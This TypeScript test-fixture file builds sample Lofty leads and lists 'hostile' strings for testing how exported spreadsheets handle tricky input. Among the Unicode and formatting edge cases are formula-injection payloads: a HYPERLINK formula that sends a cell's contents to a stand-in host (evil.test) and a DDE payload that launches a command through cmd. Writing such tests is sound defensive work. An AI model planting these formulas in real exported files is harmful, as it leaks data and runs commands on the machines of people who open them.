import { type Lead, readLead } from '../../lofty/lead.ts'

/** A lead as Lofty would send it. For tests. */
export function madeLead(raw: object): Lead {
  const row = readLead({ leadId: 1, cannotCall: false, cannotText: false, cannotEmail: false, ...raw })
  if (row.unreadable !== undefined) throw new Error(row.unreadable)
  return row
}

/** Texts that spreadsheets are known to stumble over. For tests. */
export const hostileTexts = [
  '=1+1',
  '=HYPERLINK("https://evil.test/?"&A2,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\u200b=1+1',
  '\ufeff=1+1',
  ' =1+1',
  '＝1+1',
  '＠SUM(A1)',
  "'=1+1",
  "'plain",
  'a,b;c\td',
  'say "hi"',
  'two\nlines',
  'carriage\r\nreturn\n=1+1',
  '🏡👩‍👩‍👧 family',
  'דנה כהן',
  'مريم',
  'e\u0301 and é',
  '\u202eright to left',
  '<b>&amp;</b> ]]>',
  '_x0041_ stays',
  'bell\u0007',
  '007',
  '1e5',
  '2026-11-24',
  '3/4',
  'TRUE',
  '#REF!',
]
